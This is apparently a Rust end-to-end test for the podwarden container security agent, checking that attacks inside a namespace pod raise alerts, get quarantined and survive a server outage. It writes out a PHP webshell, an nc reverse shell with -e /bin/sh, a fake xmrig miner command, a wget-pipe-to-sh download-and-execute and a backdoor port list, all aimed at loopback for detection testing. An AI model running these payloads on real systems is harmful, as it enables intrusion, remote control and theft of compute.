//! End to end, for real: a small pod made of Linux namespaces (a pid namespace shared by an
//! agent sidecar and a busybox workload container with its own mount namespace and root),
//! the real `podwarden server` on a temporary SQLite database, and attacks run inside the
//! workload. Each attack must reach the center as an alert (the observed latencies are printed;
//! the 2-second goal is measured by `bench/agent-footprint.sh`, not asserted here); a benign
//! workload raises none; quarantine from the API moves the file and is reported back; and
//! after a server outage every detection made meanwhile arrives exactly once (the agent's
//! detection ids from its log against the evidence the center kept). Dropping the pod kills
//! the namespace's first process, which takes every process of the pod along.
//!
//! Needs root, `unshare`/`nsenter` (util-linux) and a static busybox (`apt-get install
//! busybox-static`); without them the test fails and says what is missing.
//!
//! Parameters (environment):
//! - `PODWARDEN_E2E_OUTAGE_SECS`: how long the server stays down (default 30, as in the
//!   issue; the whole test then takes about 45 s; `bench/agent-outage.sh` takes a length);
//! - `PODWARDEN_E2E_ALERT_WAIT_SECS`: how long to wait for each alert (default 20);
//! - `PODWARDEN_E2E_AGENT_LOG`: the agent's log filter (default `info`).

use serde_json::Value;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::{Mutex, mpsc};
use std::time::{Duration, Instant};

const ADMIN: &str = "pw_agent_e2e_admin_token_0123456789";
/// Ports the shipped rules treat as backdoor or mining ports: never used for test services.
const SPECIAL_PORTS: &[u16] = &[
    1337, 3333, 3334, 3357, 4444, 4445, 5554, 5555, 5556, 6666, 6667, 7777, 12345, 14433, 14444,
    20580, 31337, 45560, 45700, 54321,
];

fn env_u64(name: &str, default: u64) -> u64 {
    std::env::var(name)
        .ok()
        .and_then(|v| v.trim().parse().ok())
        .unwrap_or(default)
}

/// Whether the ELF file has no program interpreter (a static executable).
fn is_static_elf(path: &Path) -> bool {
    let Ok(bytes) = std::fs::read(path) else {
        return false;
    };
    let u16_at = |at: usize| {
        bytes
            .get(at..at + 2)
            .map(|b| u16::from_le_bytes([b[0], b[1]]))
    };
    let u64_at = |at: usize| {
        bytes
            .get(at..at + 8)
            .map(|b| u64::from_le_bytes(b.try_into().unwrap_or([0; 8])))
    };
    if bytes.get(..4) != Some(b"\x7fELF") || bytes.get(4) != Some(&2) {
        return false;
    }
    let (Some(phoff), Some(phentsize), Some(phnum)) = (u64_at(0x20), u16_at(0x36), u16_at(0x38))
    else {
        return false;
    };
    (0..usize::from(phnum)).all(|i| {
        let at = phoff as usize + i * usize::from(phentsize);
        bytes.get(at..at + 4) != Some(&3u32.to_le_bytes()) // PT_INTERP
    })
}

fn which(program: &str) -> Option<PathBuf> {
    std::env::var_os("PATH")?
        .to_str()?
        .split(':')
        .map(|dir| Path::new(dir).join(program))
        .find(|p| p.is_file())
}

/// The static busybox, or a message naming every missing prerequisite.
fn prerequisites() -> PathBuf {
    let mut missing = Vec::new();
    // The owner of /proc/self is the effective uid.
    let root = std::fs::metadata("/proc/self")
        .map(|m| std::os::unix::fs::MetadataExt::uid(&m) == 0)
        .unwrap_or(false);
    if !root {
        missing.push("root (the test builds namespaces)".to_string());
    }
    for tool in ["unshare", "nsenter", "chroot"] {
        if which(tool).is_none() {
            missing.push(format!("`{tool}` (util-linux / coreutils)"));
        }
    }
    let busybox = ["/bin/busybox", "/usr/bin/busybox"]
        .iter()
        .map(PathBuf::from)
        .find(|p| is_static_elf(p));
    if busybox.is_none() {
        missing
            .push("a static busybox at /bin/busybox (apt-get install busybox-static)".to_string());
    }
    assert!(
        missing.is_empty(),
        "agent end-to-end test: missing prerequisites: {}",
        missing.join(", ")
    );
    busybox.unwrap_or_default()
}

fn free_port() -> u16 {
    loop {
        let port = TcpListener::bind("127.0.0.1:0")
            .and_then(|l| l.local_addr())
            .map(|a| a.port())
            .unwrap_or(0);
        if port != 0 && !SPECIAL_PORTS.contains(&port) {
            return port;
        }
    }
}

/// HTTP/1.1 request with `Connection: close`; `(status, JSON or string body)`.
fn http(
    addr: &str,
    method: &str,
    path: &str,
    token: Option<&str>,
    body: Option<&str>,
) -> Option<(u16, Value)> {
    let response = crate::http::send(addr, method, path, token, &[], body.unwrap_or("")).ok()?;
    Some((response.status, response.json()))
}

/// The center: `podwarden server` on a fixed port and a temporary SQLite file.
struct Server {
    child: Option<Child>,
    addr: String,
    dir: PathBuf,
}

impl Server {
    fn start(dir: &Path, port: u16) -> Server {
        let config = dir.join("server.toml");
        std::fs::write(
            &config,
            "heartbeat_interval_secs = 1\nonline_window_secs = 5\n",
        )
        .unwrap_or_else(|e| panic!("{e}"));
        let mut child = Command::new(env!("CARGO_BIN_EXE_podwarden"))
            .args([
                "server",
                "--listen",
                &format!("127.0.0.1:{port}"),
                "--config",
            ])
            .arg(&config)
            .arg("--database")
            .arg(format!("sqlite://{}/center.db", dir.display()))
            .env_remove("PODWARDEN_DATABASE")
            .env_remove("PODWARDEN_LISTEN")
            .env_remove("PODWARDEN_CONFIG")
            .env("PODWARDEN_BOOTSTRAP_TOKEN", ADMIN)
            .env("PODWARDEN_LOG", "warn")
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::inherit())
            .spawn()
            .unwrap_or_else(|e| panic!("spawn podwarden server: {e}"));
        let stdout = child.stdout.take().unwrap_or_else(|| panic!("no stdout"));
        let (send, receive) = mpsc::channel();
        std::thread::spawn(move || {
            for line in BufReader::new(stdout).lines().map_while(Result::ok) {
                let _ = send.send(line);
            }
        });
        loop {
            let line = receive
                .recv_timeout(Duration::from_secs(120))
                .unwrap_or_else(|e| panic!("server did not start: {e}"));
            if line.starts_with("podwarden server listening on") {
                break;
            }
        }
        Server {
            child: Some(child),
            addr: format!("127.0.0.1:{port}"),
            dir: dir.to_path_buf(),
        }
    }

    /// A crash: SIGKILL, no goodbye.
    fn kill(&mut self) {
        if let Some(mut child) = self.child.take() {
            let _ = child.kill();
            let _ = child.wait();
        }
    }

    fn api(&self, method: &str, path: &str, body: Option<&str>) -> (u16, Value) {
        http(&self.addr, method, path, Some(ADMIN), body)
            .unwrap_or_else(|| panic!("{method} {path}: no answer"))
    }

    /// Every alert (one page of up to 500).
    fn alerts(&self) -> Vec<Value> {
        let (status, page) = self.api("GET", "/api/v1/alerts?per_page=500", None);
        assert_eq!(status, 200, "GET /api/v1/alerts: {page}");
        page["items"].as_array().cloned().unwrap_or_default()
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        self.kill();
        let _ = &self.dir;
    }
}

/// Pids whose parent is `ppid` (host view).
fn children_of(ppid: u32) -> Vec<u32> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir("/proc").into_iter().flatten().flatten() {
        let Some(pid) = entry
            .file_name()
            .to_str()
            .and_then(|n| n.parse::<u32>().ok())
        else {
            continue;
        };
        let Ok(stat) = std::fs::read_to_string(format!("/proc/{pid}/stat")) else {
            continue;
        };
        let Some(after) = stat.rsplit_once(')').map(|(_, a)| a) else {
            continue;
        };
        if after
            .split_whitespace()
            .nth(1)
            .and_then(|p| p.parse::<u32>().ok())
            == Some(ppid)
        {
            found.push(pid);
        }
    }
    found
}

/// The single child of `ppid`, waiting for it to appear.
fn wait_child(ppid: u32, what: &str) -> u32 {
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        if let [pid] = children_of(ppid)[..] {
            return pid;
        }
        assert!(Instant::now() < deadline, "{what}: no child of {ppid}");
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// The pod: a pid namespace (its first process plays the pause container and shares its
/// mount namespace with the agent sidecar) and a busybox workload container.
struct Pod {
    dir: PathBuf,
    rootfs: PathBuf,
    state: PathBuf,
    unshare: Child,
    pause: u32,
    workload: Child,
    /// Host pid of the workload's web server (its mount namespace and root are the container).
    workload_pid: u32,
    agent: Option<Child>,
    http_port: u16,
    /// Everything run inside the pod (waited for, or killed, when the pod goes).
    spawned: Mutex<Vec<Child>>,
}

impl Pod {
    fn build_rootfs(busybox: &Path, rootfs: &Path) {
        for dir in [
            "bin",
            "sbin",
            "usr/bin",
            "usr/sbin",
            "etc",
            "tmp",
            "proc",
            "dev",
            "root",
            "var/www/html",
        ] {
            std::fs::create_dir_all(rootfs.join(dir)).unwrap_or_else(|e| panic!("{dir}: {e}"));
        }
        std::fs::copy(busybox, rootfs.join("bin/busybox"))
            .unwrap_or_else(|e| panic!("copy busybox: {e}"));
        let status = Command::new("chroot")
            .arg(rootfs)
            .args(["/bin/busybox", "--install", "-s"])
            .status();
        assert!(
            status.is_ok_and(|s| s.success()),
            "busybox --install in the root"
        );
        let status = Command::new("mknod")
            .arg(rootfs.join("dev/null"))
            .args(["c", "1", "3"])
            .status();
        assert!(status.is_ok_and(|s| s.success()), "mknod /dev/null");
        let _ = Command::new("chmod")
            .arg("666")
            .arg(rootfs.join("dev/null"))
            .status();
        std::fs::write(
            rootfs.join("etc/passwd"),
            "root:x:0:0:root:/root:/bin/sh\nwww-data:x:33:33:www-data:/var/www:/bin/sh\n",
        )
        .unwrap_or_default();
        std::fs::write(rootfs.join("etc/group"), "root:x:0:\nwww-data:x:33:\n").unwrap_or_default();
        std::fs::write(
            rootfs.join("etc/os-release"),
            "ID=busybox\nVERSION_ID=1.35\nPRETTY_NAME=\"BusyBox e2e\"\n",
        )
        .unwrap_or_default();
        std::fs::write(
            rootfs.join("var/www/html/index.html"),
            "<html><body>shop</body></html>\n",
        )
        .unwrap_or_default();
    }

    fn start(busybox: &Path, dir: &Path, server: &str, token: &str) -> Pod {
        let rootfs = dir.join("rootfs");
        Pod::build_rootfs(busybox, &rootfs);
        let rootfs = rootfs.canonicalize().unwrap_or(rootfs);
        let unshare = Command::new("unshare")
            .args([
                "--pid",
                "--fork",
                "--mount-proc",
                "--kill-child",
                "sleep",
                "100000",
            ])
            .stdin(Stdio::null())
            .spawn()
            .unwrap_or_else(|e| panic!("unshare: {e}"));
        let pause = wait_child(unshare.id(), "the pod's first process");
        let http_port = free_port();
        // The workload container: its own mount namespace, chrooted into the busybox root,
        // serving /var/www/html.
        let workload = Command::new("nsenter")
            .args([
                "-t",
                &pause.to_string(),
                "--pid",
                "--mount",
                "--",
                "unshare",
                "--mount",
                "--",
                "chroot",
            ])
            .arg(&rootfs)
            .args([
                "/usr/sbin/httpd",
                "-f",
                "-p",
                &format!("127.0.0.1:{http_port}"),
                "-h",
                "/var/www/html",
            ])
            .stdin(Stdio::null())
            .spawn()
            .unwrap_or_else(|e| panic!("nsenter workload: {e}"));
        let workload_pid = wait_child(workload.id(), "the workload");
        let serving = Instant::now();
        while TcpStream::connect(("127.0.0.1", http_port)).is_err() {
            assert!(
                serving.elapsed() < Duration::from_secs(10),
                "the workload's httpd does not serve on 127.0.0.1:{http_port}"
            );
            std::thread::sleep(Duration::from_millis(20));
        }
        let state = dir.join("agent-state");
        let mut pod = Pod {
            dir: dir.to_path_buf(),
            rootfs,
            state,
            unshare,
            pause,
            workload,
            workload_pid,
            agent: None,
            http_port,
            spawned: Mutex::new(Vec::new()),
        };
        pod.start_agent(server, token);
        pod
    }

    /// The sidecar: in the pod's pid namespace and the pause process's mount namespace.
    fn start_agent(&mut self, server: &str, token: &str) {
        let log =
            std::fs::File::create(self.dir.join("agent.log")).unwrap_or_else(|e| panic!("{e}"));
        let agent = Command::new("nsenter")
            .args(["-t", &self.pause.to_string(), "--pid", "--mount", "--"])
            .arg(env!("CARGO_BIN_EXE_podwarden"))
            .args([
                "agent",
                "--mode",
                "sidecar",
                "--server",
                server,
                "--token",
                token,
                "--poll-interval-ms",
                "100",
            ])
            .arg("--state-dir")
            .arg(&self.state)
            .env("POD_NAME", "shop-web-0")
            .env("POD_NAMESPACE", "shop")
            .env("POD_UID", "0b7f3c9e-e2e0-4a5b-9c1d-agente2e0001")
            .env(
                "PODWARDEN_LOG",
                std::env::var("PODWARDEN_E2E_AGENT_LOG").unwrap_or_else(|_| "info".to_string()),
            )
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::from(log))
            .spawn()
            .unwrap_or_else(|e| panic!("nsenter agent: {e}"));
        self.agent = Some(agent);
    }

    fn agent_log(&self) -> String {
        std::fs::read_to_string(self.dir.join("agent.log")).unwrap_or_default()
    }

    /// Runs a shell script inside the workload container and waits for it.
    fn run(&self, script: &str) {
        let mut child = self.command(&["/bin/sh", "-c", script]);
        let status = child.wait();
        assert!(status.is_ok(), "{script}: {status:?}");
    }

    /// Starts a program inside the workload container, in the background.
    fn spawn(&self, argv: &[&str]) {
        let child = self.command(argv);
        self.spawned
            .lock()
            .unwrap_or_else(|p| p.into_inner())
            .push(child);
    }

    /// A program inside the workload container (its pid and mount namespaces, root and
    /// working directory).
    fn command(&self, argv: &[&str]) -> Child {
        Command::new("nsenter")
            .args([
                "-t",
                &self.workload_pid.to_string(),
                "--pid",
                "--mount",
                "--root",
                "--wd",
                "--",
            ])
            .args(argv)
            .env("PATH", "/bin:/sbin:/usr/bin:/usr/sbin")
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap_or_else(|e| panic!("nsenter {argv:?}: {e}"))
    }
}

impl Drop for Pod {
    fn drop(&mut self) {
        // The pid namespace dies with its first process, taking every process in it along
        // (the agent, the workload and whatever the test started there).
        if let Some(pause) = rustix::process::Pid::from_raw(self.pause as i32) {
            let _ = rustix::process::kill_process(pause, rustix::process::Signal::KILL);
        }
        let _ = self.unshare.kill();
        let _ = self.unshare.wait();
        // Their `nsenter` parents outside the namespace end once their child is gone.
        if let Some(mut agent) = self.agent.take() {
            let _ = agent.kill();
            let _ = agent.wait();
        }
        let _ = self.workload.kill();
        let _ = self.workload.wait();
        for mut child in self
            .spawned
            .lock()
            .unwrap_or_else(|p| p.into_inner())
            .drain(..)
        {
            let _ = child.kill();
            let _ = child.wait();
        }
    }
}

/// Whether a host pid still names a live (not zombie) process.
fn alive(pid: u32) -> bool {
    std::fs::read_to_string(format!("/proc/{pid}/stat"))
        .ok()
        .and_then(|stat| {
            stat.rsplit_once(')')
                .and_then(|(_, rest)| rest.split_whitespace().next().map(|s| s != "Z"))
        })
        .unwrap_or(false)
}

/// The detection ids the agent logged for detections whose line contains `needle`.
fn logged_detection_ids(log: &str, needle: &str) -> Vec<String> {
    let mut ids = Vec::new();
    for line in log.lines() {
        // The log may carry ANSI colours: keep the text.
        let mut plain = String::with_capacity(line.len());
        let mut chars = line.chars();
        while let Some(c) = chars.next() {
            if c == '\u{1b}' {
                for c in chars.by_ref() {
                    if c.is_ascii_alphabetic() {
                        break;
                    }
                }
            } else {
                plain.push(c);
            }
        }
        if plain.contains("detection:")
            && plain.contains(needle)
            && let Some(id) = plain
                .split_whitespace()
                .find_map(|field| field.strip_prefix("id="))
        {
            ids.push(id.to_string());
        }
    }
    ids
}

/// Serves `body` for any GET on a loopback port, until the test ends.
fn serve_script(body: &'static str) -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap_or_else(|e| panic!("{e}"));
    let port = listener.local_addr().map(|a| a.port()).unwrap_or(0);
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let mut stream = stream;
            let mut buf = [0u8; 2048];
            let _ = stream.read(&mut buf);
            let _ = write!(
                stream,
                "HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n{body}",
                body.len()
            );
        }
    });
    port
}

/// Waits for an alert matching `want`; returns it with the time it took.
fn wait_alert(
    server: &Server,
    pod: &Pod,
    what: &str,
    since: Instant,
    limit: Duration,
    want: impl Fn(&Value) -> bool,
) -> (Value, Duration) {
    loop {
        if let Some(alert) = server.alerts().into_iter().find(|a| want(a)) {
            return (alert, since.elapsed());
        }
        assert!(
            since.elapsed() < limit,
            "no alert for {what} within {limit:?}; agent log:\n{}",
            pod.agent_log()
        );
        std::thread::sleep(Duration::from_millis(50));
    }
}

fn text(alert: &Value, field: &str) -> String {
    alert[field].as_str().unwrap_or_default().to_string()
}

#[test]
fn agent_in_a_namespace_pod_reports_attacks_survives_an_outage_and_quarantines() {
    let busybox = prerequisites();
    let outage = Duration::from_secs(env_u64("PODWARDEN_E2E_OUTAGE_SECS", 30));
    let wait = Duration::from_secs(env_u64("PODWARDEN_E2E_ALERT_WAIT_SECS", 20));
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let port = free_port();
    let mut server = Server::start(dir.path(), port);
    let (status, body) = server.api("PUT", "/api/v1/protection", Some(r#"{"enabled": true}"#));
    assert_eq!(status, 200, "{body}");
    let (status, created) = server.api("POST", "/api/v1/enrollment-tokens", Some("{}"));
    assert_eq!(status, 201, "{created}");
    let token = text(&created, "token");
    let pod = Pod::start(
        &busybox,
        dir.path(),
        &format!("http://{}", server.addr),
        &token,
    );
    let pause = pod.pause;

    // The agent enrols, comes online and reports what it watches.
    let started = Instant::now();
    let asset = loop {
        let (_, assets) = server.api("GET", "/api/v1/assets?agent=online", None);
        if assets["total"].as_i64() == Some(1) {
            break assets["items"][0]["id"].as_i64().unwrap_or_default();
        }
        assert!(
            started.elapsed() < Duration::from_secs(60),
            "agent did not come online: {assets}\n{}",
            pod.agent_log()
        );
        std::thread::sleep(Duration::from_millis(200));
    };
    let agent_status = loop {
        let (_, detail) = server.api("GET", &format!("/api/v1/assets/{asset}"), None);
        let status = detail["findings"]["agent_status"].clone();
        let roots = status["web_roots"].as_array().cloned().unwrap_or_default();
        if roots.iter().any(|r| r == "/var/www") {
            break status;
        }
        assert!(
            started.elapsed() < Duration::from_secs(60),
            "the agent does not report /var/www as a web root: {detail:#}\n{}",
            pod.agent_log()
        );
        std::thread::sleep(Duration::from_millis(200));
    };
    // In the pod's pid namespace the process connector would report host pids: the status
    // says it is not used, and why.
    let collectors: Vec<String> = agent_status["collectors"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|c| c.as_str().map(str::to_string))
        .collect();
    for expected in ["proc-poll", "proc-net", "inotify"] {
        assert!(
            collectors.iter().any(|c| c == expected),
            "{expected} in {collectors:?}"
        );
    }
    assert!(
        collectors
            .iter()
            .any(|c| c.starts_with("netlink-proc-connector: not used (not in the initial")),
        "{collectors:?}"
    );
    assert!(
        collectors.iter().any(|c| c.starts_with("fanotify: ")),
        "{collectors:?}"
    );

    // A benign workload: pages served, files read and written (plain pages and PHP in the web
    // root too), ordinary commands.
    pod.run(&format!(
        "ls -la /var/www/html; cat /etc/passwd > /dev/null; echo note > /tmp/note; id; \
         printf '<html><body>about</body></html>\\n' > /var/www/html/about.html; \
         printf '<?php echo date(\"Y\"); ?>\\n' > /var/www/html/year.php; \
         wget -q -O /dev/null http://127.0.0.1:{}/index.html; date; sleep 1",
        pod.http_port
    ));
    std::thread::sleep(Duration::from_secs(3));
    let alerts = server.alerts();
    assert!(
        alerts.is_empty(),
        "benign activity raised alerts: {alerts:#?}"
    );

    let mut latencies = Vec::new();

    // 1. A webshell dropped into the web root.
    let since = Instant::now();
    pod.run(
        "printf '%s\\n' '<?php if(isset($_REQUEST[\"cmd\"])){ echo \"<pre>\"; system($_REQUEST[\"cmd\"]); } ?>' > /var/www/html/up.php",
    );
    let (webshell, took) = wait_alert(&server, &pod, "the webshell", since, wait, |a| {
        text(a, "alert_type") == "webshell" && text(a, "file_path") == "/var/www/html/up.php"
    });
    latencies.push(("webshell", took));
    assert_eq!(text(&webshell, "file_sha256").len(), 64, "{webshell:#}");

    // 2. A reverse shell to a listener on the loopback.
    let listener = TcpListener::bind("127.0.0.1:0").unwrap_or_else(|e| panic!("{e}"));
    let reverse_port = listener.local_addr().map(|a| a.port()).unwrap_or(0);
    let since = Instant::now();
    pod.spawn(&[
        "nc",
        "127.0.0.1",
        &reverse_port.to_string(),
        "-e",
        "/bin/sh",
    ]);
    let (mut attacker, _) = listener.accept().unwrap_or_else(|e| panic!("accept: {e}"));
    let _ = attacker.write_all(b"sleep 4\n");
    let (reverse, took) = wait_alert(&server, &pod, "the reverse shell", since, wait, |a| {
        text(a, "alert_type") == "network"
            && ["PW-NET-001", "PW-NET-003"].contains(&text(a, "rule_id").as_str())
    });
    latencies.push(("reverse shell", took));
    // The shell's standard streams name the listener.
    assert!(
        text(&reverse, "description").contains(&format!("->127.0.0.1:{reverse_port}")),
        "{reverse:#}"
    );
    drop(attacker);

    // 3. A fake miner with a Stratum pool in its arguments.
    let since = Instant::now();
    // `; :` keeps the shell (and its arguments) alive while sleep runs.
    pod.spawn(&[
        "sh",
        "-c",
        "sleep 3; :",
        "xmrig",
        "-o",
        "stratum+tcp://pool.minexmr.example:4444",
        "--rig-id",
        "e2e",
    ]);
    let (_, took) = wait_alert(&server, &pod, "the miner", since, wait, |a| {
        text(a, "rule_id") == "PW-PROC-002" && text(a, "process_cmdline").contains("--rig-id e2e")
    });
    latencies.push(("miner", took));

    // 4. Download and execute.
    let script_port = serve_script("sleep 3\n");
    let since = Instant::now();
    pod.spawn(&[
        "/bin/sh",
        "-c",
        &format!("wget -q -O - http://127.0.0.1:{script_port}/x.sh | sh"),
    ]);
    let (pipeline, took) = wait_alert(&server, &pod, "download and execute", since, wait, |a| {
        text(a, "rule_id") == "PW-PROC-003"
    });
    latencies.push(("download and execute", took));
    assert!(
        text(&pipeline, "process_cmdline").contains(&format!("127.0.0.1:{script_port}/x.sh")),
        "{pipeline:#}"
    );
    // Each alert carries the process tree.
    let id = pipeline["id"].as_i64().unwrap_or_default();
    let (_, detail) = server.api("GET", &format!("/api/v1/alerts/{id}"), None);
    assert!(
        detail["process_tree"]
            .as_array()
            .is_some_and(|tree| !tree.is_empty()),
        "{detail:#}"
    );
    eprintln!("agent e2e: attack to alert at the center (REST polling every 50 ms): {latencies:?}");

    // Quarantine from the API: the file leaves the web root and the agent reports back.
    let id = webshell["id"].as_i64().unwrap_or_default();
    let (status, handled) = server.api(
        "POST",
        &format!("/api/v1/alerts/{id}/handle"),
        Some(r#"{"method": "quarantine", "note": "e2e"}"#),
    );
    assert_eq!(status, 200, "{handled}");
    let since = Instant::now();
    loop {
        let (_, detail) = server.api("GET", &format!("/api/v1/alerts/{id}"), None);
        if text(&detail, "status") == "quarantined" {
            break;
        }
        assert!(
            text(&detail, "status") != "quarantine_failed",
            "quarantine failed: {detail:#}\n{}",
            pod.agent_log()
        );
        assert!(
            since.elapsed() < Duration::from_secs(30),
            "quarantine not reported: {detail:#}\n{}",
            pod.agent_log()
        );
        std::thread::sleep(Duration::from_millis(200));
    }
    assert!(
        !pod.rootfs.join("var/www/html/up.php").exists(),
        "the webshell is still in the web root"
    );
    assert!(
        pod.rootfs.join("var/www/html/about.html").exists(),
        "only the webshell leaves"
    );
    let vault_objects = std::fs::read_dir(pod.state.join("vault/objects"))
        .map(|d| d.count())
        .unwrap_or(0);
    assert_eq!(vault_objects, 1, "the vault holds the file");

    // The center goes away; the pod keeps producing detections; nothing may be lost.
    server.kill();
    let outage_started = Instant::now();
    let mut markers = Vec::new();
    while outage_started.elapsed() < outage || markers.len() < 3 {
        let marker = format!("outage-{}", markers.len());
        pod.spawn(&[
            "sh",
            "-c",
            "sleep 1; :",
            "xmrig",
            "-o",
            "stratum+tcp://pool.minexmr.example:4444",
            "--rig-id",
            &marker,
        ]);
        markers.push(marker);
        std::thread::sleep(Duration::from_millis(700));
    }
    while outage_started.elapsed() < outage {
        std::thread::sleep(Duration::from_millis(100));
    }
    let mut server = Server::start(dir.path(), port);
    let back = Instant::now();
    let of_marker = |alerts: &[Value], marker: &str| -> Vec<Value> {
        alerts
            .iter()
            .filter(|a| text(a, "process_cmdline").ends_with(&format!("--rig-id {marker}")))
            .cloned()
            .collect()
    };
    // Exactly once, by the agent's detection ids. A marker may be detected more than once
    // legitimately (the `nsenter` child carries the same arguments until it executes `sh`);
    // every detection the agent logged must be at the center once: as many occurrences as
    // logged ids, and each alert's evidence one of them.
    let mut outage_detections = 0;
    loop {
        let log = pod.agent_log();
        let alerts = server.alerts();
        let mut complete = true;
        let mut report = Vec::new();
        for marker in &markers {
            let logged = logged_detection_ids(&log, &format!("--rig-id {marker} "));
            let found = of_marker(&alerts, marker);
            let occurrences: i64 = found.iter().filter_map(|a| a["occurrences"].as_i64()).sum();
            assert!(!logged.is_empty(), "{marker}: no detection logged\n{log}");
            assert!(
                occurrences <= logged.len() as i64,
                "{marker}: {occurrences} occurrences at the center for the detections {logged:?}: {found:#?}"
            );
            complete &= occurrences == logged.len() as i64;
            report.push((marker.clone(), logged, found));
        }
        if complete {
            for (marker, logged, found) in &report {
                for alert in found {
                    let id = alert["id"].as_i64().unwrap_or_default();
                    let (_, detail) = server.api("GET", &format!("/api/v1/alerts/{id}"), None);
                    let evidence = detail["evidence"]["id"].as_str().unwrap_or_default();
                    assert!(
                        logged.iter().any(|l| l == evidence),
                        "{marker}: the center holds {evidence:?}, the agent logged {logged:?}"
                    );
                }
                outage_detections += logged.len();
            }
            eprintln!(
                "agent e2e: {outage_detections} detections of {} processes started during a {outage:?} outage all arrived, once each, {:?} after the center returned",
                markers.len(),
                back.elapsed()
            );
            break;
        }
        assert!(
            back.elapsed() < Duration::from_secs(90),
            "after the outage: {:?}\n{log}",
            report
                .iter()
                .map(|(m, logged, found)| (m, logged.len(), found.len()))
                .collect::<Vec<_>>()
        );
        std::thread::sleep(Duration::from_millis(250));
    }
    drop(pod);
    server.kill();
    // No process of the pod is left behind.
    let gone = Instant::now();
    while alive(pause) {
        assert!(
            gone.elapsed() < Duration::from_secs(10),
            "the pod's first process {pause} is still running"
        );
        std::thread::sleep(Duration::from_millis(50));
    }
}
